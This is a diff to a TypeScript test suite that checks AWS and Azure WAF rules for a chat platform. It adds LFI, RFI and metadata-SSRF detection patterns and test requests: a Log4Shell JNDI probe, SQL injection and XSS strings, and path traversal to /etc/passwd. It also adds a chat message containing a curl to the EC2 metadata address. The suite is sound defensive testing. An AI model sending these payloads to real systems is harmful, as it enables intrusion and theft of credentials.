@@ -45,6 +45,9 @@ const MANAGED: Readonly<Record<string, readonly ManagedRule[]>> = {
     // The ALB hands AWS WAF the first 8 KB of a body; the rule refuses bodies larger than that.
     { rule: 'SizeRestrictions_BODY', label: 'awswaf:managed:aws:core-rule-set:SizeRestrictions_Body', matches: (r) => Buffer.byteLength(r.body ?? '') > 8192 },
     { rule: 'CrossSiteScripting_BODY', label: 'awswaf:managed:aws:core-rule-set:CrossSiteScripting_Body', matches: (r) => xss(r.body ?? '') },
+    { rule: 'GenericLFI_BODY', label: 'awswaf:managed:aws:core-rule-set:GenericLFI_Body', matches: (r) => /\.\.\//.test(r.body ?? '') },
+    { rule: 'GenericRFI_BODY', label: 'awswaf:managed:aws:core-rule-set:GenericRFI_Body', matches: (r) => /https?:\/\/\d+\.\d+\.\d+\.\d+/.test(r.body ?? '') },
+    { rule: 'EC2MetaDataSSRF_BODY', label: 'awswaf:managed:aws:core-rule-set:EC2MetaDataSSRF_Body', matches: (r) => (r.body ?? '').includes('169.254.169.254') },
   ],
   AWSManagedRulesSQLiRuleSet: [
     { rule: 'SQLi_QUERYARGUMENTS', label: 'awswaf:managed:aws:sql-database:SQLi_QueryArguments', matches: (r) => sqli(decode(r.query ?? '')) },
@@ -157,6 +160,11 @@ const legitimate: [string, Request][] = [
   ['a SockJS frame carrying a long message', { method: 'POST', path: '/sockjs/123/abcdefgh/xhr_send', headers: browser, body: JSON.stringify([JSON.parse(ddpSend).message]) }],
   ['a 9 KB message through method.call (the web client)', { method: 'POST', path: '/api/v1/method.call/sendMessage', headers: browser, body: ddpSend }],
   ['a 9 KB message through chat.sendMessage (REST API)', { method: 'POST', path: '/api/v1/chat.sendMessage', headers: browser, body: JSON.stringify({ message: { rid: 'GENERAL', msg: longMessage } }) }],
+  ['an incoming webhook (a 12 KB push payload with paths and links)', { method: 'POST', path: '/hooks/6a1b2c/Xk9mQ', headers: { 'user-agent': 'GitHub-Hookshot/a1b2c3d', 'content-type': 'application/json' },
+    body: JSON.stringify({ ref: 'refs/heads/main', commits: [{ message: 'fix ../../lib path, see http://10.0.4.7:8080/build/17', diff: 'z'.repeat(12_000) }] }) }],
+  ['an ops chat message about the metadata address and a local link', { method: 'POST', path: '/api/v1/method.call/sendMessage', headers: browser,
+    body: JSON.stringify({ message: JSON.stringify({ msg: 'method', method: 'sendMessage', params: [{ rid: 'ops', msg: 'curl http://169.254.169.254/latest/meta-data from ../../tmp' }] }) }) }],
+  ['the text sent with an uploaded file', { method: 'POST', path: '/api/v1/rooms.mediaConfirm/GENERAL/f1le1d', headers: browser, body: '{"msg":"","description":"<b>see</b> SELECT 1 OR 1=1"}' }],
   ['an ordinary REST call', { method: 'GET', path: '/api/v1/rooms.get', query: 'updatedSince=2026-12-01T00:00:00.000Z', headers: browser }],
   ['the health path', { method: 'GET', path: '/api/v1/info', headers: { 'user-agent': 'ELB-HealthChecker/2.0' } }],
 ];
@@ -166,6 +174,7 @@ const attacks: [string, Request, string][] = [
   ['a Log4Shell probe in a header (known bad input)', { method: 'GET', path: '/api/v1/info', headers: { ...browser, 'x-api-version': '${jndi:ldap://203.0.113.9/a}' } }, 'aws-known-bad-inputs/Log4JRCE_HEADER'],
   ['SQL injection in a login body', { method: 'POST', path: '/api/v1/login', headers: browser, body: '{"user":"admin\' OR 1=1--","password":"x"}' }, 'body-rules-outside-rocketchat-paths'],
   ['a script in a profile update body', { method: 'POST', path: '/api/v1/users.updateOwnBasicInfo', headers: browser, body: '{"data":{"name":"<script>alert(1)</script>"}}' }, 'body-rules-outside-rocketchat-paths'],
+  ['a path traversal in a body outside the message paths', { method: 'POST', path: '/api/v1/users.updateOwnBasicInfo', headers: browser, body: '{"data":{"username":"../../../etc/passwd"}}' }, 'body-rules-outside-rocketchat-paths'],
   ['a 20 KB body outside the upload and message paths', { method: 'POST', path: '/api/v1/users.update', headers: browser, body: `{"data":{"bio":"${'y'.repeat(20_000)}"}}` }, 'body-rules-outside-rocketchat-paths'],
   ['a body attack hidden behind an upload prefix (/ufs/../)', { method: 'POST', path: '/ufs/../api/v1/login', headers: browser, body: '{"user":"admin\' OR 1=1--"}' }, 'body-rules-outside-rocketchat-paths'],
   ['the same, URL-encoded (/ufs/%2e%2e/)', { method: 'POST', path: '/ufs/%2e%2e/api/v1/login', headers: browser, body: '{"user":"admin\' OR 1=1--"}' }, 'body-rules-outside-rocketchat-paths'],
@@ -234,8 +243,39 @@ describe('AWS WAF logging and alarms', () => {
 
   it('alarms on blocks above the learned band and on any block of the health path', () => {
     const alarms = resources(stack, 'aws_cloudwatch_metric_alarm').filter((a) => String(a.alarm_name).includes('-waf-'));
-    expect(alarms.map((a) => a.alarm_name)).toEqual(['aws-prod-waf-blocked-above-normal', 'aws-prod-waf-blocks-health-path']);
+    expect(alarms.map((a) => a.alarm_name).sort()).toEqual(['aws-prod-waf-blocked-above-normal', 'aws-prod-waf-blocks-health-path']);
     const [filter] = resources(stack, 'aws_cloudwatch_log_metric_filter');
     expect(filter!.pattern).toBe('{ ($.action = "BLOCK") && ($.httpRequest.uri = "/api/v1/info") }');
+  });
+});
+
+describe('Azure WAF policies', () => {
+  const policies = (env: string) => {
+    const all = resources(stacks[`${env}-platform`]!, 'azurerm_web_application_firewall_policy');
+    return ['edge', 'bodies'].map((name) => all.find((p) => p.name === `waf-${env}-${name}`));
+  };
+
+  it('inspects bodies everywhere except on the upload and message route, with the same rule sets and rate limit', () => {
+    const [edge, bodies] = policies('azure-prod');
+    expect(one(edge!.policy_settings)).toMatchObject({ enabled: true, mode: 'Prevention', request_body_check: true, request_body_enforcement: true });
+    expect(one(bodies!.policy_settings)).toMatchObject({ enabled: true, mode: 'Prevention', request_body_check: false, request_body_enforcement: false });
+    for (const p of [edge!, bodies!]) {
+      expect(one(p.managed_rules).managed_rule_set).toEqual([{ type: 'Microsoft_DefaultRuleSet', version: '2.1' }, { type: 'Microsoft_BotManagerRuleSet', version: '1.1' }]);
+      expect(p.custom_rules).toEqual([expect.objectContaining({ rule_type: 'RateLimitRule', rate_limit_threshold: 20000, rate_limit_duration: 'FiveMins', group_rate_limit_by: 'ClientAddr', action: 'Block' })]);
+    }
+    expect(one(policies('azure-dev')[0]!.policy_settings).mode).toBe('Detection');
+  });
+
+  it('makes both referable on the AGC, sends its logs to the workspace and alerts on blocks', () => {
+    const stack = stacks['azure-prod-platform']!;
+    expect(resources(stack, 'azurerm_application_load_balancer_security_policy').map((p) => p.web_application_firewall_policy_id).sort()).toEqual([
+      expect.stringMatching(/^\$\{azurerm_web_application_firewall_policy\.cloud_edge_waf_bodies_[0-9A-F]+\.id\}$/),
+      expect.stringMatching(/^\$\{azurerm_web_application_firewall_policy\.cloud_edge_waf_edge_[0-9A-F]+\.id\}$/),
+    ]);
+    const diagnostics = resources(stack, 'azurerm_monitor_diagnostic_setting').filter((d) => String(d.target_resource_id).includes('azurerm_application_load_balancer.'));
+    expect(diagnostics).toEqual([expect.objectContaining({ log_analytics_workspace_id: '${data.terraform_remote_state.azure-prod-cluster-state.outputs.log_analytics_workspace_id}' })]);
+    const alerts = resources(stack, 'azurerm_monitor_scheduled_query_rules_alert_v2');
+    expect(alerts.map((a) => a.name).sort()).toEqual(['azure-prod-waf-blocked-above-normal', 'azure-prod-waf-blocks-health-path']);
+    expect(one(alerts.find((a) => a.name === 'azure-prod-waf-blocks-health-path')!.criteria).query).toContain('RequestUri startswith "/api/v1/info"');
   });
 });
